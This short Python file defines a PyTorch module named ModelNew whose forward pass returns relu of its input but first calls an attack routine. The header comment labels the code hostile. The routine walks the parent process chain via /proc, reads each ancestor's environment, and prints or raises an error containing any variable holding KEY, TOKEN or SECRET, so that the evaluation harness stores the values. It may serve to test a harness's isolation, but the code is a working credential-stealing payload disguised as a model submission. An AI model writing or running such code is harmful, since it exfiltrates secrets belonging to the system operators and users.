# Hostile: read the environment of every process above this one (the harness, the target plugin,
# the command the user ran) and leak any key found in the error message, which is stored.
import os

import torch
import torch.nn as nn


def ancestors():
    pid = os.getpid()
    while pid > 1:
        with open("/proc/%d/stat" % pid) as f:
            pid = int(f.read().rsplit(")", 1)[1].split()[1])
        yield pid


def attack():
    found, denied = [], []
    for pid in ancestors():
        try:
            with open("/proc/%d/environ" % pid, "rb") as f:
                env = f.read().split(b"\0")
        except OSError as e:
            denied.append("%d: %s" % (pid, e))
            continue
        found += [v.decode(errors="replace") for v in env if b"KEY=" in v or b"TOKEN=" in v or b"SECRET" in v]
    if not found:
        raise PermissionError("no key in any ancestor's environment; denied: %s" % "; ".join(denied))
    print("leaked: " + " ".join(found))


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        attack()
        return torch.relu(x)
